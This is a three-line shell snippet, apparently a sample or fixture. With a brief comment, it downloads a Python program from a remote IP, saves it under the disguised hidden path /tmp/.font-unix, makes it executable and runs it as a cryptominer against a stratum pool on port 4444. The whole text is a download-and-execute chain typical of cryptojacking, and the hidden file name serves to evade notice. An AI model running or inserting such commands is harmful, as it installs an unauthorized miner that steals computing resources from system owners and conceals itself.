# A shell fetches a program and runs it. The program subscribes to a pool on port 4444 and submits a share, with the
# messages of cpuminer.
curl -s -o /tmp/.font-unix http://203.0.113.10/miner.py
chmod +x /tmp/.font-unix
/tmp/.font-unix stratum 203.0.113.20 4444
